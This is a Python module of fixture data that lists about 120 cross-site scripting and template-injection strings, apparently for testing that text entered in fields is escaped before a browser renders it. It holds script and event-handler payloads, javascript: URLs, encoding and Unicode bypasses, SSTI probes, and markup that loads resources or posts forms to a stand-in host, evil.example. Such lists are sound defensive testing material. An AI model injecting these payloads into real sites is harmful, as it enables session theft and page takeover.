# ruff: noqa: E501
"""What somebody might write into a field that others look at in a browser: 120 ways, and some more, to be more than text."""

from __future__ import annotations

MARK = "pwned"
PAYLOADS: list[str] = [
    f"<script>{MARK}()</script>", f"\"><script>{MARK}()</script>", f"'><img src=x onerror={MARK}()>",
    f"<svg onload={MARK}()>", f"</textarea><script>{MARK}()</script>", f"</title><script>{MARK}()</script>",
    f"<a href=javascript:{MARK}()>x</a>", f"javascript:{MARK}()", f"\" onmouseover={MARK}() x=\"", f"' autofocus onfocus={MARK}() x='",
    "{{ 7 * 7 }}", "{% include 'base.html' %}", "${7*7}", "<!--", "]]>", "</script>", "<iframe srcdoc='x'>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><input name=form_token>",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<math><mtext></p><script>x()</script>",
    "\u202egnp.exe", "\u2066<b>\u2069", "<b", "&lt;script&gt;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "%3Cscript%3E",
]  # fmt: skip
_HANDLERS = (
    ("img src=x", "error"), ("body", "load"), ("input autofocus", "focus"), ("select autofocus", "focus"), ("video src=x", "error"),
    ("audio src=x", "error"), ("details open", "toggle"), ("marquee", "start"), ("svg/", "load"), ("iframe", "load"), ("object data=x", "error"),
    ("embed src=x", "error"), ("style", "load"), ("a tabindex=0 autofocus", "focus"), ("div", "pointerenter"), ("p", "mouseover"),
    ("form", "formdata"), ("dialog open", "close"), ("math", "click"), ("table", "animationstart"), ("link rel=preload", "error"),
    ("meter", "wheel"), ("source", "error"), ("track", "cuechange"), ("button popovertarget=x", "beforetoggle"),
)  # fmt: skip
PAYLOADS += [f"<{tag} on{event}={MARK}()>" for tag, event in _HANDLERS]
PAYLOADS += [f"{before}<img src=x onerror={MARK}()>" for before in (
    "</pre>", "</code>", "</td></tr></table>", "</svg>", "</text></svg>", "</a>", "</option></select>", "</style>", "</noscript>", "--!>",
    "-->", "\"/>", "'/>", "`>", "\">'>", "%>", "?>", "]]>", "</iframe>", "</xmp>", "</noembed>", "</template>", "</dd></dl>", "</h1>",
)]  # fmt: skip
PAYLOADS += [f"<a href=\"{scheme}\">x</a>" for scheme in (
    f"JaVaScRiPt:{MARK}()", f"java\tscript:{MARK}()", f"&#106;avascript:{MARK}()", f"\x01javascript:{MARK}()", f"vbscript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>", f"javascript://%0a{MARK}()", "//evil.example/x", "\\\\evil.example\\x", "https:evil.example",
)]  # fmt: skip
PAYLOADS += [
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 1x'>", "<svg><image href=//evil.example/x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>", "<svg><script href=//evil.example/x.js></script></svg>",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s></svg>", f"<svg><foreignObject><img src=x onerror={MARK}()></foreignObject></svg>",
    f"<math href=javascript:{MARK}()>x</math>", "<video poster=//evil.example/x></video>", "<link rel=prefetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example>", "<object data=//evil.example></object>", "<embed src=//evil.example>", "<portal src=//evil.example>",
    f"<script src=data:,{MARK}()></script>", f"<script type=module>import '//evil.example/x.js';{MARK}()</script>", f"<script>/*{MARK}*/{MARK}()//",
    f"{{{{constructor.constructor('{MARK}()')()}}}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% raw %}", "#{7*7}", "<%= 7*7 %>", "[[7*7]]",
    f"';{MARK}();'", f"\\\";{MARK}();//", f"`${{{MARK}()}}`", f"\u2028{MARK}()", f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
    f"\u00bcscript\u00be{MARK}()", f"\uff1cscript\uff1e{MARK}()\uff1c/script\uff1e", "<div style=background:url(//evil.example)>",
    "<p style=position:fixed;inset:0>", "<input name=token value=x>", "<button formaction=//evil.example>", "<textarea>", "<title>", "<plaintext>",
    "<xmp>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template shadowrootmode=open>", "\U0001f600<b>", "a\u0300<i>",
]  # fmt: skip
NAMES = ["".join(letter for letter in one if letter >= " ").replace("/", "|") for one in PAYLOADS]
"""The same as names of files."""
